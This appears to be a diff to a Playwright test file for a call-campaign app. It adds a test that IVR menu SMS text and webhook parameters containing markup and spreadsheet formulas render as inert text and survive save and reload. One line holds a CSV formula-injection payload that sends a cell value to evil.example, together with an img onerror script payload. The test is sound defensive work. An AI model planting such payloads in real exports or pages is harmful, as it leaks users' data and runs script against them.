@@ -12,6 +12,7 @@ test.describe.configure({ mode: "serial" });
 
 test.beforeAll(async ({ browser }) => {
   await ensureConnection(browser, "calldron");
+  await ensureConnection(browser, "calldog");
 });
 
 /** Nothing ran and no element was made from the text: it is on the page only as the characters typed. */
@@ -69,5 +70,48 @@ test("a do-not-call reason with markup and a formula is shown as text, and the C
   expect(line, csv.slice(0, 500)).toBeDefined();
   // The reason cell starts with an apostrophe, so a spreadsheet shows the formula instead of running it.
   expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"") <img src=x onerror=""window.__xss=1"">"`);
+  await page.context().close();
+});
+
+test("an IVR menu's SMS text and webhook parameters with markup and a formula are shown as text, saved and loaded back", async ({ browser }) => {
+  const page = await pageAs(browser, "manager");
+  const name = `${MARKUP} menu ${run}`;
+  await page.goto("/campaigns/calldog/menus/new");
+  await page.getByLabel("Template name").fill(name);
+  const addKey = page.getByRole("button", { name: "Add a key" });
+
+  await addKey.click();
+  const sms = page.getByTestId("ivr-handler-1");
+  await sms.getByLabel("Send an SMS").check();
+  await sms.getByLabel("SMS text").fill(MARKUP);
+
+  await addKey.click();
+  const hook = page.getByTestId("ivr-handler-2");
+  await hook.getByLabel("Call a webhook").check();
+  await hook.getByLabel("Webhook URL").fill("https://crm.example.com/hook");
+  await hook.getByRole("button", { name: "Add a parameter" }).click();
+  await page.keyboard.type("note");
+  await page.keyboard.press("Tab");
+  await page.keyboard.type(FORMULA);
+  await hook.getByRole("button", { name: "Add a parameter" }).click();
+  await page.keyboard.type("html");
+  await page.keyboard.press("Tab");
+  await page.keyboard.type(MARKUP);
+
+  const preview = page.getByTestId("ivr-menu-tree");
+  await expect(preview).toContainText(`Send the SMS “${MARKUP}”`);
+  await expect(preview).toContainText(JSON.stringify({ note: FORMULA, html: MARKUP }));
+  await expectInert(page, `Send the SMS “${MARKUP}”`);
+
+  await page.getByRole("button", { name: "Save", exact: true }).last().click();
+  await expect(page).toHaveURL(/\/campaigns\/calldog\/menus\?saved=/);
+  await expectInert(page, name);
+
+  await page.goto("/campaigns/calldog/menus/new");
+  await page.getByLabel("Template", { exact: true }).selectOption({ label: name });
+  await page.getByRole("button", { name: "Load template" }).click();
+  await expect(page.getByTestId("ivr-handler-1").getByLabel("SMS text")).toHaveValue(MARKUP);
+  await expect(page.getByTestId("ivr-handler-2").getByTestId("webhook-parameters-json")).toHaveText(JSON.stringify({ note: FORMULA, html: MARKUP }));
+  await expectInert(page, `Send the SMS “${MARKUP}”`);
   await page.context().close();
 });
